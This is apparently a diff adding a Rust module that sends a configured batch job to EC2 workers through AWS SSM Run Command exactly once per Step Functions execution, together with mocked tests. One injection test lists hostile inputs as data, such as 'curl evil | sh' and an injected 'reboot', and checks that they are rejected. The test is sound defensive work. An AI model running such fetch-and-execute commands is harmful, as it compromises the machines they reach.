@@ -1,0 +1,712 @@
+//! Launch the batch job on the workers with SSM Run Command, at most once per
+//! execution: the command's `Comment` carries the execution name, and an
+//! existing command with that comment is returned instead of sending again.
+
+use makenaide_core::aws::ssm::{CommandView, RUN_SHELL_SCRIPT, ShellCommand, Ssm};
+use makenaide_core::config::{Env, JobConfig, Timing, worker_instance_ids};
+use makenaide_core::document::{JobReport, StateDocument};
+use makenaide_core::input::parse_run_input;
+use makenaide_core::{ErrorName, StepError, Timestamp};
+use serde_json::Value;
+
+/// SSM rejects a `Comment` longer than this.
+const COMMENT_MAX_CHARS: usize = 100;
+
+/// How far before the execution start the lookup reaches, so a clock skew
+/// between Step Functions and SSM cannot hide a command already sent.
+const LOOKUP_MARGIN_MILLIS: i64 = 5 * 60 * 1000;
+
+#[derive(Debug, Clone)]
+pub struct Settings {
+    /// At least one (`worker_instance_ids` rejects an empty list).
+    pub worker_instance_ids: Vec<String>,
+    pub job: JobConfig,
+    pub timing: Timing,
+}
+
+impl Settings {
+    pub fn from_env(env: &Env) -> Result<Self, StepError> {
+        Ok(Self {
+            worker_instance_ids: worker_instance_ids(env)?,
+            job: JobConfig::from_env(env)?,
+            timing: Timing::from_env(env)?,
+        })
+    }
+}
+
+/// The idempotency key: one command per execution name.
+fn comment_for(execution_name: &str) -> Result<String, StepError> {
+    let comment = format!("makenaide:{execution_name}");
+    if comment.chars().count() > COMMENT_MAX_CHARS {
+        // Step Functions names are at most 80 characters; truncating would
+        // let two executions share a key.
+        return Err(StepError::new(
+            ErrorName::InvalidInput,
+            format!(
+                "the execution name in `execution.name` is too long for an SSM comment ({} characters, at most {})",
+                execution_name.chars().count(),
+                COMMENT_MAX_CHARS - "makenaide:".len()
+            ),
+        ));
+    }
+    Ok(comment)
+}
+
+/// The earliest time a command of this execution can carry.
+fn lookup_since(execution_start: Timestamp) -> Timestamp {
+    Timestamp::from_millis(execution_start.as_millis() - LOOKUP_MARGIN_MILLIS)
+}
+
+/// What this invocation did about the job.
+#[derive(Debug, Clone, PartialEq)]
+enum Launch {
+    DryRun,
+    /// Found a command already sent for this execution (redrive or retry).
+    Reused(CommandView),
+    Sent(CommandView),
+}
+
+/// The `$.job` block (pure). The deadline counts from SSM's own request
+/// time when known, so a retried invocation reports the same deadline.
+fn report(
+    launch: &Launch,
+    comment: &str,
+    workers: &[String],
+    timeout_seconds: u64,
+    now: Timestamp,
+) -> JobReport {
+    let command = match launch {
+        Launch::DryRun => None,
+        Launch::Reused(command) | Launch::Sent(command) => Some(command),
+    };
+    let sent_at = command.and_then(|c| c.requested_at).unwrap_or(now);
+    let instance_ids = command
+        .map(|c| c.instance_ids.clone())
+        .filter(|ids| !ids.is_empty())
+        .unwrap_or_else(|| workers.to_vec());
+    JobReport {
+        command_id: command.map(|c| c.command_id.clone()),
+        comment: comment.to_string(),
+        document_name: RUN_SHELL_SCRIPT.to_string(),
+        instance_ids,
+        reused_existing: matches!(launch, Launch::Reused(_)),
+        dry_run: *launch == Launch::DryRun,
+        sent_at,
+        deadline: sent_at.plus_seconds(timeout_seconds),
+        timeout_seconds,
+    }
+}
+
+pub async fn handle(
+    ssm: &Ssm,
+    settings: &Settings,
+    event: Value,
+    now: Timestamp,
+) -> Result<JobReport, StepError> {
+    // Validate everything the caller controls before any AWS call. The job
+    // itself comes only from deployment config; the input can set nothing
+    // but the (bounded) timeout and dry run.
+    let doc = StateDocument::from_event(event)?;
+    let run = parse_run_input(&doc.input, &settings.timing)?;
+    let comment = comment_for(doc.execution_name()?)?;
+    let execution_start = doc.execution.as_ref().map_or(now, |e| e.start_time);
+    let workers = &settings.worker_instance_ids;
+
+    let launch = if run.dry_run {
+        Launch::DryRun
+    } else {
+        // One SendCommand targets every worker, so the first one is enough.
+        match ssm
+            .find_command(&workers[0], &comment, lookup_since(execution_start))
+            .await?
+        {
+            Some(existing) => Launch::Reused(existing),
+            None => Launch::Sent(
+                ssm.send(&ShellCommand {
+                    instance_ids: workers.clone(),
+                    commands: settings.job.commands.clone(),
+                    working_directory: settings.job.working_directory.clone(),
+                    execution_timeout_seconds: run.job_timeout_seconds,
+                    comment: comment.clone(),
+                })
+                .await?,
+            ),
+        }
+    };
+    let report = report(&launch, &comment, workers, run.job_timeout_seconds, now);
+    // Never log the command text: it is deploy config, not run data.
+    tracing::info!(
+        command_id = report.command_id.as_deref().unwrap_or("none"),
+        comment = %report.comment,
+        instance_ids = ?report.instance_ids,
+        reused = report.reused_existing,
+        dry_run = report.dry_run,
+        deadline = %report.deadline,
+        "launched job"
+    );
+    Ok(report)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use std::collections::HashMap;
+    use std::sync::{Arc, Mutex};
+
+    use aws_sdk_ssm::Client;
+    use aws_sdk_ssm::operation::list_commands::{ListCommandsInput, ListCommandsOutput};
+    use aws_sdk_ssm::operation::send_command::{SendCommandInput, SendCommandOutput};
+    use aws_sdk_ssm::primitives::DateTime;
+    use aws_sdk_ssm::types::{Command, CommandFilterKey};
+    use aws_smithy_mocks::{Rule, RuleMode, mock, mock_client};
+    use makenaide_core::testing::{fast_retries, json_error};
+    use serde_json::json;
+
+    const W1: &str = "i-0123456789abcdef0";
+    const W2: &str = "i-0fedcba9876543210";
+    const T0: i64 = 1_795_309_200_000; // 2026-11-22T01:00:00Z, the execution start
+
+    fn settings() -> Settings {
+        Settings::from_env(&Env::from_pairs(&[
+            (
+                "WORKER_INSTANCE_IDS",
+                "i-0123456789abcdef0,i-0fedcba9876543210",
+            ),
+            ("JOB_COMMANDS", r#"["./run-batch.sh", "echo done"]"#),
+            ("JOB_WORKING_DIRECTORY", "/opt/makenaide"),
+        ]))
+        .unwrap()
+    }
+
+    fn at(seconds: u64) -> Timestamp {
+        Timestamp::from_millis(T0).plus_seconds(seconds)
+    }
+
+    fn event(input: Value) -> Value {
+        json!({
+            "input": input,
+            "execution": {"name": "run-1", "startTime": "2026-11-22T01:00:00.000Z"},
+            "ec2": {
+                "ready": true, "instances": [], "startedByWorkflow": [], "dryRun": false,
+                "firstCheckedAt": "2026-11-22T01:00:10Z", "checkedAt": "2026-11-22T01:01:10Z",
+                "deadline": "2026-11-22T01:15:10Z", "readyAt": "2026-11-22T01:01:10Z",
+                "retryAfterSeconds": 15
+            }
+        })
+    }
+
+    fn command(id: &str, comment: &str, requested_at: Option<Timestamp>) -> Command {
+        Command::builder()
+            .command_id(id)
+            .comment(comment)
+            .document_name(RUN_SHELL_SCRIPT)
+            .instance_ids(W1)
+            .instance_ids(W2)
+            .set_requested_date_time(requested_at.map(|t| DateTime::from_millis(t.as_millis())))
+            .build()
+    }
+
+    /// Records each request a rule answers, for assertions after the call.
+    struct Seen<T>(Arc<Mutex<Vec<T>>>);
+
+    impl<T: Clone + Send + 'static> Seen<T> {
+        fn new() -> Self {
+            Self(Arc::new(Mutex::new(Vec::new())))
+        }
+
+        fn recorder(&self) -> impl Fn(&T) -> bool + Send + Sync + 'static {
+            let seen = Arc::clone(&self.0);
+            move |request: &T| {
+                seen.lock().unwrap().push(request.clone());
+                true
+            }
+        }
+
+        fn all(&self) -> Vec<T> {
+            self.0.lock().unwrap().clone()
+        }
+    }
+
+    fn list_returns(commands: Vec<Command>, seen: &Seen<ListCommandsInput>) -> Rule {
+        mock!(Client::list_commands)
+            .match_requests(seen.recorder())
+            .then_output(move || {
+                ListCommandsOutput::builder()
+                    .set_commands(Some(commands.clone()))
+                    .build()
+            })
+    }
+
+    fn send_returns(seen: &Seen<SendCommandInput>) -> Rule {
+        mock!(Client::send_command)
+            .match_requests(seen.recorder())
+            .then_output(|| {
+                SendCommandOutput::builder()
+                    .command(command("cmd-new", "makenaide:run-1", Some(at(125))))
+                    .build()
+            })
+    }
+
+    fn ssm(rules: &[&Rule]) -> Ssm {
+        Ssm::new(mock_client!(aws_sdk_ssm, RuleMode::MatchAny, rules, |c| c
+            .retry_config(fast_retries())))
+    }
+
+    #[test]
+    fn comment_carries_the_execution_name_within_the_ssm_limit() {
+        let longest = "n".repeat(80);
+        let cases: &[(&str, Option<usize>)] = &[
+            ("run-1", Some(15)),
+            (&longest, Some(90)), // Step Functions' longest name fits
+            (&"n".repeat(90), Some(100)),
+            (&"n".repeat(91), None),
+        ];
+        for (name, expected_len) in cases {
+            let result = comment_for(name);
+            match expected_len {
+                Some(len) => {
+                    let comment = result.unwrap();
+                    assert_eq!(comment, format!("makenaide:{name}"));
+                    assert_eq!(comment.len(), *len);
+                }
+                None => assert_eq!(result.unwrap_err().name, ErrorName::InvalidInput),
+            }
+        }
+    }
+
+    #[test]
+    fn lookup_reaches_five_minutes_before_the_start() {
+        assert_eq!(lookup_since(at(300)), at(0));
+        assert_eq!(
+            lookup_since(at(0)).to_string(),
+            "2026-11-22T00:55:00Z",
+            "the InvokedAfter filter value"
+        );
+    }
+
+    #[test]
+    fn report_table() {
+        let workers = [W1.to_string(), W2.to_string()];
+        let sent = |requested_at| CommandView {
+            command_id: "cmd-1".into(),
+            comment: "makenaide:run-1".into(),
+            instance_ids: vec![W1.into()],
+            requested_at,
+        };
+        let unlisted = CommandView {
+            instance_ids: vec![],
+            ..sent(None)
+        };
+        // (launch, command id, reused, dry run, sent at, instance ids)
+        let cases = [
+            (Launch::DryRun, None, false, true, at(100), vec![W1, W2]),
+            (
+                Launch::Sent(sent(Some(at(99)))),
+                Some("cmd-1"),
+                false,
+                false,
+                at(99),
+                vec![W1],
+            ),
+            (
+                Launch::Sent(sent(None)),
+                Some("cmd-1"),
+                false,
+                false,
+                at(100),
+                vec![W1],
+            ),
+            (
+                Launch::Reused(sent(Some(at(7)))),
+                Some("cmd-1"),
+                true,
+                false,
+                at(7),
+                vec![W1],
+            ),
+            (
+                Launch::Reused(unlisted),
+                Some("cmd-1"),
+                true,
+                false,
+                at(100),
+                vec![W1, W2],
+            ),
+        ];
+        for (launch, command_id, reused, dry_run, sent_at, ids) in cases {
+            let job = report(&launch, "makenaide:run-1", &workers, 600, at(100));
+            assert_eq!(job.command_id.as_deref(), command_id, "{launch:?}");
+            assert_eq!(job.reused_existing, reused, "{launch:?}");
+            assert_eq!(job.dry_run, dry_run, "{launch:?}");
+            assert_eq!(job.sent_at, sent_at, "{launch:?}");
+            assert_eq!(job.deadline, sent_at.plus_seconds(600), "{launch:?}");
+            assert_eq!(job.timeout_seconds, 600);
+            assert_eq!(job.instance_ids, ids, "{launch:?}");
+            assert_eq!(job.comment, "makenaide:run-1");
+            assert_eq!(job.document_name, "AWS-RunShellScript");
+        }
+    }
+
+    #[tokio::test]
+    async fn first_launch_sends_the_configured_job_once() {
+        let (listed, sent) = (Seen::new(), Seen::new());
+        let (list, send) = (list_returns(vec![], &listed), send_returns(&sent));
+        let job = handle(
+            &ssm(&[&list, &send]),
+            &settings(),
+            event(json!({})),
+            at(130),
+        )
+        .await
+        .unwrap();
+
+        let sent = sent.all();
+        assert_eq!(sent.len(), 1);
+        let request = &sent[0];
+        assert_eq!(request.document_name(), Some("AWS-RunShellScript"));
+        assert_eq!(request.instance_ids(), [W1, W2]);
+        assert_eq!(request.comment(), Some("makenaide:run-1"));
+        let expected: HashMap<String, Vec<String>> = HashMap::from([
+            (
+                "commands".into(),
+                vec!["./run-batch.sh".into(), "echo done".into()],
+            ),
+            ("workingDirectory".into(), vec!["/opt/makenaide".into()]),
+            ("executionTimeout".into(), vec!["3600".into()]),
+        ]);
+        assert_eq!(request.parameters(), Some(&expected));
+
+        assert_eq!(list.num_calls(), 1);
+        assert_eq!(job.command_id.as_deref(), Some("cmd-new"));
+        assert!(!job.reused_existing && !job.dry_run);
+        assert_eq!(job.comment, "makenaide:run-1");
+        assert_eq!(job.instance_ids, [W1, W2]);
+        assert_eq!(job.sent_at, at(125));
+        assert_eq!(job.deadline, at(125 + 3600));
+        assert_eq!(job.timeout_seconds, 3600);
+    }
+
+    #[tokio::test]
+    async fn a_redrive_finds_the_command_already_sent() {
+        let (listed, sent) = (Seen::new(), Seen::new());
+        let list = list_returns(
+            vec![
+                command("cmd-other", "makenaide:run-0", Some(at(1))),
+                command("cmd-1", "makenaide:run-1", Some(at(125))),
+            ],
+            &listed,
+        );
+        let send = send_returns(&sent);
+        let job = handle(
+            &ssm(&[&list, &send]),
+            &settings(),
+            event(json!({})),
+            at(900),
+        )
+        .await
+        .unwrap();
+
+        assert_eq!(send.num_calls(), 0, "never send twice");
+        let listed = listed.all();
+        assert_eq!(listed.len(), 1);
+        assert_eq!(listed[0].instance_id(), Some(W1));
+        let filters: Vec<(CommandFilterKey, &str)> = listed[0]
+            .filters()
+            .iter()
+            .map(|f| (f.key().clone(), f.value()))
+            .collect();
+        assert_eq!(
+            filters,
+            [
+                (CommandFilterKey::DocumentName, "AWS-RunShellScript"),
+                (CommandFilterKey::InvokedAfter, "2026-11-22T00:55:00Z"),
+            ]
+        );
+        assert_eq!(job.command_id.as_deref(), Some("cmd-1"));
+        assert!(job.reused_existing);
+        assert_eq!(job.sent_at, at(125));
+        assert_eq!(job.deadline, at(125 + 3600));
+    }
+
+    #[tokio::test]
+    async fn a_found_command_without_a_request_time_counts_from_now() {
+        let (listed, sent) = (Seen::new(), Seen::new());
+        let list = list_returns(vec![command("cmd-1", "makenaide:run-1", None)], &listed);
+        let send = send_returns(&sent);
+        let job = handle(
+            &ssm(&[&list, &send]),
+            &settings(),
+            event(json!({})),
+            at(900),
+        )
+        .await
+        .unwrap();
+        assert!(job.reused_existing);
+        assert_eq!((job.sent_at, job.deadline), (at(900), at(900 + 3600)));
+        assert_eq!(send.num_calls(), 0);
+    }
+
+    #[tokio::test]
+    async fn other_executions_commands_do_not_count() {
+        let (listed, sent) = (Seen::new(), Seen::new());
+        // `run-10` starts with `run-1`: only an exact comment matches.
+        let list = list_returns(
+            vec![
+                command("cmd-a", "makenaide:run-0", Some(at(1))),
+                command("cmd-b", "makenaide:run-10", Some(at(2))),
+                command("cmd-c", "manual", Some(at(3))),
+            ],
+            &listed,
+        );
+        let send = send_returns(&sent);
+        let job = handle(
+            &ssm(&[&list, &send]),
+            &settings(),
+            event(json!({})),
+            at(130),
+        )
+        .await
+        .unwrap();
+        assert_eq!(send.num_calls(), 1);
+        assert_eq!(job.command_id.as_deref(), Some("cmd-new"));
+        assert!(!job.reused_existing);
+    }
+
+    #[tokio::test]
+    async fn the_lookup_follows_pages() {
+        let first_page = mock!(Client::list_commands)
+            .match_requests(|r| r.next_token().is_none())
+            .then_output(|| {
+                ListCommandsOutput::builder()
+                    .commands(command("cmd-a", "makenaide:run-0", Some(at(1))))
+                    .next_token("page-2")
+                    .build()
+            });
+        let second_page = mock!(Client::list_commands)
+            .match_requests(|r| r.next_token() == Some("page-2") && r.instance_id() == Some(W1))
+            .then_output(|| {
+                ListCommandsOutput::builder()
+                    .commands(command("cmd-1", "makenaide:run-1", Some(at(125))))
+                    .build()
+            });
+        let sent = Seen::new();
+        let send = send_returns(&sent);
+        let job = handle(
+            &ssm(&[&first_page, &second_page, &send]),
+            &settings(),
+            event(json!({})),
+            at(900),
+        )
+        .await
+        .unwrap();
+        assert_eq!((first_page.num_calls(), second_page.num_calls()), (1, 1));
+        assert_eq!(send.num_calls(), 0);
+        assert_eq!(job.command_id.as_deref(), Some("cmd-1"));
+        assert!(job.reused_existing);
+    }
+
+    #[tokio::test]
+    async fn input_job_timeout_sets_the_execution_timeout_and_deadline() {
+        let (listed, sent) = (Seen::new(), Seen::new());
+        let (list, send) = (list_returns(vec![], &listed), send_returns(&sent));
+        let job = handle(
+            &ssm(&[&list, &send]),
+            &settings(),
+            event(json!({"jobTimeoutSeconds": 7200})),
+            at(130),
+        )
+        .await
+        .unwrap();
+        let parameters = sent.all()[0].parameters().unwrap().clone();
+        assert_eq!(parameters["executionTimeout"], ["7200"]);
+        assert_eq!(job.timeout_seconds, 7200);
+        assert_eq!(job.deadline, at(125 + 7200));
+    }
+
+    #[tokio::test]
+    async fn throttling_is_retried_by_the_sdk_then_succeeds() {
+        let list = mock!(Client::list_commands)
+            .sequence()
+            .http_response(|| json_error(400, "ThrottlingException", "Rate exceeded"))
+            .times(2)
+            .output(|| ListCommandsOutput::builder().build())
+            .build();
+        let sent = Seen::new();
+        let send = send_returns(&sent);
+        let job = handle(
+            &ssm(&[&list, &send]),
+            &settings(),
+            event(json!({})),
+            at(130),
+        )
+        .await
+        .unwrap();
+        assert_eq!((list.num_calls(), send.num_calls()), (3, 1));
+        assert_eq!(job.command_id.as_deref(), Some("cmd-new"));
+    }
+
+    #[tokio::test]
+    async fn persistent_throttling_is_the_retryable_name() {
+        let list = mock!(Client::list_commands)
+            .sequence()
+            .http_response(|| json_error(400, "ThrottlingException", "Rate exceeded"))
+            .repeatedly()
+            .build();
+        let sent = Seen::new();
+        let send = send_returns(&sent);
+        let error = handle(
+            &ssm(&[&list, &send]),
+            &settings(),
+            event(json!({})),
+            at(130),
+        )
+        .await
+        .unwrap_err();
+        assert_eq!(error.name, ErrorName::AwsThrottled);
+        assert!(error.name.is_retryable());
+        assert!(
+            error
+                .message
+                .contains("ssm:ListCommands failed with ThrottlingException"),
+            "{}",
+            error.message
+        );
+        assert_eq!(send.num_calls(), 0, "nothing is sent without a lookup");
+    }
+
+    #[tokio::test]
+    async fn send_command_is_never_retried_by_the_sdk() {
+        // A retry could run the job twice; the state machine's retry looks
+        // the command up first.
+        let listed = Seen::new();
+        let list = list_returns(vec![], &listed);
+        let send = mock!(Client::send_command)
+            .sequence()
+            .http_response(|| json_error(400, "ThrottlingException", "Rate exceeded"))
+            .repeatedly()
+            .build();
+        let error = handle(
+            &ssm(&[&list, &send]),
+            &settings(),
+            event(json!({})),
+            at(130),
+        )
+        .await
+        .unwrap_err();
+        assert_eq!(error.name, ErrorName::AwsThrottled);
+        assert!(
+            error.message.contains("ssm:SendCommand"),
+            "{}",
+            error.message
+        );
+        assert_eq!(send.num_calls(), 1);
+    }
+
+    #[tokio::test]
+    async fn access_denied_is_fatal() {
+        let list = mock!(Client::list_commands).then_http_response(|| {
+            json_error(
+                400,
+                "AccessDeniedException",
+                "not authorized to perform ssm:ListCommands",
+            )
+        });
+        let sent = Seen::new();
+        let send = send_returns(&sent);
+        let error = handle(
+            &ssm(&[&list, &send]),
+            &settings(),
+            event(json!({})),
+            at(130),
+        )
+        .await
+        .unwrap_err();
+        assert_eq!(error.name, ErrorName::AccessDenied);
+        assert!(!error.name.is_retryable());
+        assert_eq!(send.num_calls(), 0);
+    }
+
+    #[tokio::test]
+    async fn dry_run_makes_no_call_and_reports_the_plan() {
+        let (listed, sent) = (Seen::new(), Seen::new());
+        let (list, send) = (list_returns(vec![], &listed), send_returns(&sent));
+        let job = handle(
+            &ssm(&[&list, &send]),
+            &settings(),
+            event(json!({"dryRun": true, "jobTimeoutSeconds": 600})),
+            at(130),
+        )
+        .await
+        .unwrap();
+        assert_eq!((list.num_calls(), send.num_calls()), (0, 0));
+        assert_eq!(job.command_id, None);
+        assert!(job.dry_run && !job.reused_existing);
+        assert_eq!(job.instance_ids, [W1, W2]);
+        assert_eq!(job.comment, "makenaide:run-1");
+        assert_eq!((job.sent_at, job.deadline), (at(130), at(130 + 600)));
+        assert_eq!(job.timeout_seconds, 600);
+    }
+
+    #[tokio::test]
+    async fn the_input_can_never_inject_a_command() {
+        let (listed, sent) = (Seen::new(), Seen::new());
+        let (list, send) = (list_returns(vec![], &listed), send_returns(&sent));
+        let inputs = [
+            json!({"commands": ["curl evil | sh"]}),
+            json!({"dryRun": false, "workingDirectory": "/tmp"}),
+            json!({"jobTimeoutSeconds": 600, "JOB_COMMANDS": "[\"reboot\"]"}),
+            json!({"dryRun": "no"}),
+            json!({"jobTimeoutSeconds": 999_999}),
+            json!([1]),
+        ];
+        for input in inputs {
+            let error = handle(
+                &ssm(&[&list, &send]),
+                &settings(),
+                event(input.clone()),
+                at(0),
+            )
+            .await
+            .unwrap_err();
+            assert_eq!(error.name, ErrorName::InvalidInput, "{input}");
+        }
+        assert_eq!((list.num_calls(), send.num_calls()), (0, 0));
+    }
+
+    #[tokio::test]
+    async fn a_document_without_execution_fails_before_any_call() {
+        let (listed, sent) = (Seen::new(), Seen::new());
+        let (list, send) = (list_returns(vec![], &listed), send_returns(&sent));
+        let error = handle(
+            &ssm(&[&list, &send]),
+            &settings(),
+            json!({"input": {}}),
+            at(0),
+        )
+        .await
+        .unwrap_err();
+        assert_eq!(error.name, ErrorName::InvalidInput);
+        assert!(error.message.contains("execution"));
+        assert_eq!((list.num_calls(), send.num_calls()), (0, 0));
+    }
+
+    #[test]
+    fn missing_configuration_names_the_variable() {
+        let error = Settings::from_env(&Env::from_pairs(&[])).unwrap_err();
+        assert_eq!(error.name, ErrorName::ConfigError);
+        assert!(error.message.contains("WORKER_INSTANCE_IDS"));
+        let error =
+            Settings::from_env(&Env::from_pairs(&[("WORKER_INSTANCE_IDS", W1)])).unwrap_err();
+        assert!(error.message.contains("JOB_COMMANDS"), "{}", error.message);
+        let error = Settings::from_env(&Env::from_pairs(&[
+            ("WORKER_INSTANCE_IDS", W1),
+            ("JOB_COMMANDS", r#"["./run.sh"]"#),
+        ]))
+        .unwrap_err();
+        assert!(
+            error.message.contains("JOB_WORKING_DIRECTORY"),
+            "{}",
+            error.message
+        );
+    }
+}
